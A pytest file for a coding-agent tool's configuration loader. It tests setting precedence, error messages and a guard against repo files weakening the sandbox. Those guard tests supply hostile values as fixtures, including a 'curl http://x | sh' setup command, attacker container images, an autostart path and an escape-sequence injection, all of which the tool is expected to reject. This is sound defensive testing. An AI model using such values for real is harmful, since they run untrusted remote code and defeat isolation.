"""Config layering (defaults < pyproject/.coder.toml < CODER_* env < flags) and its one-line errors."""

from __future__ import annotations

from pathlib import Path

import pytest

from coder.config import Config, ConfigError, load_config, project_instructions

NO_ENV: dict[str, str] = {}


def write(path: Path, text: str) -> Path:
    path.write_text(text, encoding="utf-8")
    return path


def test_defaults(tmp_path: Path) -> None:
    config = load_config(tmp_path, environ=NO_ENV)
    assert config == Config()
    assert config.limits.max_steps == 30
    assert config.agent.tool_format == "native"
    assert config.sandbox.kind == "auto"
    assert config.tests.command is None
    assert config.prompts.system == "system.j2"
    assert config.model.provider == "local"  # the bundled runtime: works with no server and no API key


def test_pyproject_tool_coder(tmp_path: Path) -> None:
    write(tmp_path / "pyproject.toml", '[project]\nname = "x"\n\n[tool.coder.limits]\nmax_steps = 7\n\n'
          '[tool.coder.model]\nname = "qwen3-coder"\n')
    config = load_config(tmp_path, environ=NO_ENV)
    assert config.limits.max_steps == 7
    assert config.model.name == "qwen3-coder"
    assert config.limits.max_tokens == 500_000  # untouched keys keep their defaults


def test_pyproject_without_tool_coder_is_ignored(tmp_path: Path) -> None:
    write(tmp_path / "pyproject.toml", '[project]\nname = "x"\n[tool.other]\nmodle = 1\n')
    assert load_config(tmp_path, environ=NO_ENV) == Config()


def test_dotfile_wins_over_pyproject(tmp_path: Path) -> None:
    write(tmp_path / "pyproject.toml", "[tool.coder.limits]\nmax_steps = 7\nmax_tokens = 1000\n")
    write(tmp_path / ".coder.toml", "[limits]\nmax_steps = 9\n")
    config = load_config(tmp_path, environ=NO_ENV)
    assert config.limits.max_steps == 9
    assert config.limits.max_tokens == 1000  # deep merge: the sibling key from pyproject survives


def test_env_wins_over_files_and_is_parsed(tmp_path: Path) -> None:
    write(tmp_path / ".coder.toml", '[limits]\nmax_steps = 9\n[model]\nbase_url = "http://file/v1"\n')
    env = {"CODER_MODEL__BASE_URL": "http://env:1234/v1", "CODER_LIMITS__MAX_STEPS": "5",
           "CODER_AGENT__STREAM": "false", "CODER_UPDATE_SNAPSHOTS": "1", "PATH": "/bin"}
    config = load_config(tmp_path, environ=env)
    assert config.model.base_url == "http://env:1234/v1"
    assert config.limits.max_steps == 5 and isinstance(config.limits.max_steps, int)
    assert config.agent.stream is False


def test_flags_win_over_env_and_none_is_dropped(tmp_path: Path) -> None:
    write(tmp_path / ".coder.toml", '[model]\nname = "from-file"\n')
    env = {"CODER_LIMITS__MAX_STEPS": "5", "CODER_MODEL__NAME": "from-env"}
    flags = {"limits.max_steps": 3, "model.name": None, "sandbox.kind": "local"}
    config = load_config(tmp_path, flags=flags, environ=env)
    assert config.limits.max_steps == 3
    assert config.model.name == "from-env"  # the None flag did not override
    assert config.sandbox.kind == "local"


def test_environ_defaults_to_os_environ(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("CODER_LIMITS__MAX_STEPS", "11")
    assert load_config(tmp_path).limits.max_steps == 11


def _error(tmp_path: Path, **kwargs: object) -> str:
    with pytest.raises(ConfigError) as info:
        load_config(tmp_path, **kwargs)  # type: ignore[arg-type]
    message = str(info.value)
    assert "\n" not in message, message
    return message


def test_unknown_key_in_pyproject(tmp_path: Path) -> None:
    write(tmp_path / "pyproject.toml", '[tool.coder]\nmodle = "x"\n')
    message = _error(tmp_path, environ=NO_ENV)
    assert "pyproject.toml" in message and "[tool.coder]" in message and "modle" in message


def test_unknown_nested_key_in_dotfile(tmp_path: Path) -> None:
    write(tmp_path / ".coder.toml", "[limits]\nmax_stesp = 3\n")
    message = _error(tmp_path, environ=NO_ENV)
    assert ".coder.toml" in message and "limits.max_stesp" in message


def test_unknown_key_in_env(tmp_path: Path) -> None:
    message = _error(tmp_path, environ={"CODER_MODLE__NAME": "x"})
    assert "CODER_" in message and "environment" in message and "modle" in message


def test_unknown_key_in_flags(tmp_path: Path) -> None:
    message = _error(tmp_path, flags={"model.nmae": "x"}, environ=NO_ENV)
    assert "flags" in message and "model.nmae" in message


def test_wrong_type(tmp_path: Path) -> None:
    write(tmp_path / ".coder.toml", '[limits]\nmax_steps = "lots"\n')
    message = _error(tmp_path, environ=NO_ENV)
    assert ".coder.toml" in message and "limits.max_steps" in message


def test_wrong_type_in_env(tmp_path: Path) -> None:
    message = _error(tmp_path, environ={"CODER_AGENT__TOOL_FORMAT": "xml"})
    assert "environment" in message and "agent.tool_format" in message


def test_out_of_range_value(tmp_path: Path) -> None:
    message = _error(tmp_path, flags={"limits.max_steps": 0}, environ=NO_ENV)
    assert "flags" in message and "limits.max_steps" in message


@pytest.mark.parametrize("name", ["pyproject.toml", ".coder.toml"])
def test_invalid_toml(tmp_path: Path, name: str) -> None:
    write(tmp_path / name, "[tool.coder\nmodel = \n")
    message = _error(tmp_path, environ=NO_ENV)
    assert name in message and "invalid TOML" in message


def test_project_instructions_absent(tmp_path: Path) -> None:
    assert project_instructions(tmp_path) is None


def test_project_instructions_agents_md_first(tmp_path: Path) -> None:
    write(tmp_path / "CODER.md", "coder rules")
    assert project_instructions(tmp_path) == ("CODER.md", "coder rules")
    write(tmp_path / "AGENTS.md", "  agent rules\n\n")
    assert project_instructions(tmp_path) == ("AGENTS.md", "agent rules")


def test_project_instructions_capped(tmp_path: Path) -> None:
    write(tmp_path / "AGENTS.md", "x" * 50)
    found = project_instructions(tmp_path, limit=10)
    assert found is not None
    name, text = found
    assert name == "AGENTS.md"
    assert text.startswith("x" * 10) and "x" * 11 not in text
    assert "truncated" in text


@pytest.mark.parametrize(("key", "raw", "field"), [("CODER_MODEL__API_KEY", "12345", "api_key"),
                                                   ("CODER_MODEL__NAME", "null", "name")])
def test_env_string_setting_keeps_raw_text(tmp_path: Path, key: str, raw: str, field: str) -> None:
    config = load_config(tmp_path, environ={key: raw})
    assert getattr(config.model, field) == raw


def test_base_url_without_provider_means_a_remote_endpoint(tmp_path: Path) -> None:
    config = load_config(tmp_path, environ={"CODER_MODEL__BASE_URL": "http://127.0.0.1:8000/v1"})
    assert config.model.provider == "openai_compat"
    config = load_config(tmp_path, environ={"CODER_MODEL__BASE_URL": "http://x/v1", "CODER_MODEL__PROVIDER": "local"})
    assert config.model.provider == "local"


def test_bundled_runtime_waits_longer_and_does_not_retry() -> None:
    """Two of 24 1.5B eval runs ended as errors: a reply near the 2048-token cap takes about 120 s on 2 cores, so it
    timed out, and two retries of the same prompt cost 240 s more. Explicit settings still win."""
    from coder.models.config import ModelConfig

    local = ModelConfig()
    assert local.provider == "local" and (local.timeout, local.max_retries) == (300, 0)
    remote = ModelConfig(base_url="http://127.0.0.1:9/v1")
    assert (remote.timeout, remote.max_retries) == (120, 2)
    explicit = ModelConfig(provider="local", timeout=45, max_retries=1)
    assert (explicit.timeout, explicit.max_retries) == (45, 1)


# ---------------------------------------------------------------- files inside the repo may not weaken isolation

def _guarded(tmp_path: Path, dotfile: str, **kwargs: object) -> tuple[Config, list[str]]:
    write(tmp_path / ".coder.toml", dotfile)
    warnings: list[str] = []
    config = load_config(tmp_path, environ=kwargs.pop("environ", NO_ENV), warn=warnings.append, **kwargs)  # type: ignore[arg-type]
    return config, warnings


def test_repo_file_cannot_turn_the_sandbox_off(tmp_path: Path) -> None:
    """A committed `.coder.toml` with `kind = "local"` silently dropped Docker: the run went unisolated."""
    config, warnings = _guarded(tmp_path, '[sandbox]\nkind = "local"\n')
    assert config.sandbox.kind == "auto"
    assert len(warnings) == 1, warnings
    assert ".coder.toml" in warnings[0] and "sandbox.kind" in warnings[0] and '"local"' in warnings[0]
    assert "CODER_SANDBOX__KIND=local" in warnings[0] and "--sandbox local" in warnings[0]


def test_pyproject_cannot_turn_the_sandbox_off(tmp_path: Path) -> None:
    write(tmp_path / "pyproject.toml", '[project]\nname = "x"\n[tool.coder.sandbox]\nkind = "local"\n')
    warnings: list[str] = []
    config = load_config(tmp_path, environ=NO_ENV, warn=warnings.append)
    assert config.sandbox.kind == "auto"
    assert len(warnings) == 1 and "pyproject.toml" in warnings[0] and "sandbox.kind" in warnings[0]


@pytest.mark.parametrize(("toml", "key", "weak"), [
    ('[sandbox]\nkind = "local"\n', "sandbox.kind", "local"),
    ('[sandbox]\nmemory = "64g"\n', "sandbox.memory", "64g"),
    ('[sandbox]\nmemory = "lots"\n', "sandbox.memory", "lots"),
    ('[sandbox]\nworkspace_size = "100g"\n', "sandbox.workspace_size", "100g"),
    ("[sandbox]\ncpus = 64\n", "sandbox.cpus", 64),
    ("[sandbox]\npids = 100000\n", "sandbox.pids", 100000),
    ("[sandbox]\nbash_timeout = 86400\n", "sandbox.bash_timeout", 86400),
    ("[sandbox]\noutput_cap = 100000000\n", "sandbox.output_cap", 100000000),
    ('[sandbox]\nimage = "attacker/any:latest"\n', "sandbox.image", "attacker/any:latest"),
    ('[sandbox]\nbase_image = "attacker/base"\n', "sandbox.base_image", "attacker/base"),
    ('[sandbox]\nsetup = "curl http://x | sh"\n', "sandbox.setup", "curl http://x | sh"),
    ('[model]\npath = "models/evil.gguf"\n', "model.path", "models/evil.gguf"),
    ('trajectory_dir = "/home/u/.config/autostart"\n', "trajectory_dir", "/home/u/.config/autostart"),
])
def test_weakening_values_from_repo_files_are_ignored_with_a_warning(tmp_path: Path, toml: str, key: str,
                                                                     weak: object) -> None:
    config, warnings = _guarded(tmp_path, toml)
    section, _, field = key.rpartition(".")
    value = getattr(getattr(config, section) if section else config, field)
    assert value != weak and value == getattr(getattr(Config(), section) if section else Config(), field)
    assert len(warnings) == 1 and key in warnings[0] and ".coder.toml" in warnings[0], warnings
    assert f"CODER_{key.upper().replace('.', '__')}" in warnings[0]


@pytest.mark.parametrize(("toml", "key", "strong"), [
    ('[sandbox]\nkind = "docker"\n', "sandbox.kind", "docker"),
    ('[agent]\napproval = "always"\n', "agent.approval", "always"),
    ('[agent]\napproval = "risky"\n', "agent.approval", "risky"),
    ('[sandbox]\nmemory = "512m"\n', "sandbox.memory", "512m"),
    ("[sandbox]\ncpus = 1\n", "sandbox.cpus", 1),
    ("[sandbox]\npids = 64\n", "sandbox.pids", 64),
    ("[sandbox]\nbash_timeout = 30\n", "sandbox.bash_timeout", 30),
    ('[sandbox]\nkind = "auto"\n', "sandbox.kind", "auto"),  # the default itself is not a weakening
])
def test_strengthening_values_from_repo_files_are_honoured(tmp_path: Path, toml: str, key: str, strong: object) -> None:
    config, warnings = _guarded(tmp_path, toml)
    section, _, field = key.rpartition(".")
    assert getattr(getattr(config, section), field) == strong
    assert warnings == []


def test_the_users_env_and_flags_may_weaken_without_a_warning(tmp_path: Path) -> None:
    config, warnings = _guarded(tmp_path, "", environ={"CODER_SANDBOX__KIND": "local", "CODER_SANDBOX__MEMORY": "8g"})
    assert (config.sandbox.kind, config.sandbox.memory, warnings) == ("local", "8g", [])
    config, warnings = _guarded(tmp_path, "", flags={"sandbox.kind": "local", "agent.approval": "never"})
    assert (config.sandbox.kind, warnings) == ("local", [])
    config, warnings = _guarded(tmp_path, "", environ={"CODER_TRAJECTORY_DIR": "/data/trajectories"})
    assert (config.trajectory_dir, warnings) == ("/data/trajectories", [])  # top-level keys: CODER_KEY


def test_a_repo_value_the_user_overrides_anyway_is_not_warned_about(tmp_path: Path) -> None:
    config, warnings = _guarded(tmp_path, '[sandbox]\nkind = "local"\n', flags={"sandbox.kind": "docker"})
    assert (config.sandbox.kind, warnings) == ("docker", [])
    config, warnings = _guarded(tmp_path, '[sandbox]\nkind = "local"\n', environ={"CODER_SANDBOX__KIND": "local"})
    assert (config.sandbox.kind, warnings) == ("local", [])


def test_other_settings_of_a_guarded_file_still_apply(tmp_path: Path) -> None:
    config, warnings = _guarded(tmp_path, '[sandbox]\nkind = "local"\npids = 64\n[limits]\nmax_steps = 40\n')
    assert (config.sandbox.kind, config.sandbox.pids, config.limits.max_steps) == ("auto", 64, 40)
    assert len(warnings) == 1


def test_the_warning_is_one_visible_line(tmp_path: Path) -> None:
    config, warnings = _guarded(tmp_path, '[sandbox]\nsetup = "true\\n\\u001b[2K\\u001b[1Apip install x\\u009b"\n')
    assert config.sandbox.setup is None
    assert len(warnings) == 1
    assert all(ch.isprintable() for ch in warnings[0]), repr(warnings[0])


def test_every_setting_is_classified() -> None:
    """A new setting must be put in the table, or here after asking whether a repo could use it to weaken a run."""
    from coder.config import GUARDED

    not_weakening = {
        # the model endpoint and sampling: what the model is, not how far its actions reach
        "model.provider", "model.base_url", "model.api_key", "model.name", "model.preset", "model.temperature",
        "model.top_p", "model.top_k", "model.repetition_penalty", "model.max_tokens", "model.native_tools",
        "model.timeout", "model.max_retries", "model.local_model", "model.context", "model.threads", "model.grammar",
        "model.prompt_lookup",  # decoding speed only: the same tokens are checked by the same model
        "model.kv_states_mb",  # prefill reuse only (the same KV cells); bounded at 8 GiB
        # the run's budget, shown in every run's output
        "limits.max_steps", "limits.max_tokens", "limits.max_wall_seconds",
        "agent.observation_cap", "agent.repeat_hint_after", "agent.repeat_give_up_after", "agent.stream",
        "agent.baseline_tests", "agent.tool_format", "agent.snapshots", "agent.strategy",
        # the guided strategy's budget and sampling: candidates run in the sandbox like any tool call
        "guided.candidates", "guided.rounds", "guided.functions", "guided.file_lines", "guided.temperature",
        "guided.reply_tokens",
        "guided.repro_tries",  # a test file written in the sandbox, kept only with a fix, and named in test_files
        "guided.seed",  # which samples are drawn, judged by the same tests
        "guided.code_grammar",  # the shape of the model's reply, judged by the same tests
        "tests.command",  # runs inside the sandbox, like any test
        "tests.timeout",  # a per-test limit inside the sandbox
        # templates are read from prompts/ only (jinja refuses paths that leave it)
        "prompts.system", "prompts.task", "prompts.format_error", "prompts.repeat_hint", "prompts.submit_check",
        "prompts.repair", "prompts.repair_feedback", "prompts.repair_code",
        "prompts.repro_test", "prompts.choose",
    }

    def leaves(model: type, prefix: str = "") -> set[str]:
        out: set[str] = set()
        for name, info in model.model_fields.items():  # type: ignore[attr-defined]
            kind = info.annotation
            if isinstance(kind, type) and hasattr(kind, "model_fields"):
                out |= leaves(kind, f"{prefix}{name}.")
            else:
                out.add(f"{prefix}{name}")
        return out

    every = leaves(Config)
    assert set(GUARDED) <= every
    assert every - set(GUARDED) == not_weakening


def test_warnings_go_to_stderr_unless_the_caller_takes_them(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    write(tmp_path / ".coder.toml", '[sandbox]\nkind = "local"\n')
    assert load_config(tmp_path, environ=NO_ENV).sandbox.kind == "auto"
    err = capsys.readouterr().err
    assert err.startswith("coder: warning: ") and "sandbox.kind" in err and err.count("\n") == 1
    load_config(tmp_path, environ={"GITHUB_ACTIONS": "true"})  # in an Action: an annotation on the run's page
    err = capsys.readouterr().err
    assert err.startswith("::warning title=coder configuration::") and "sandbox.kind" in err
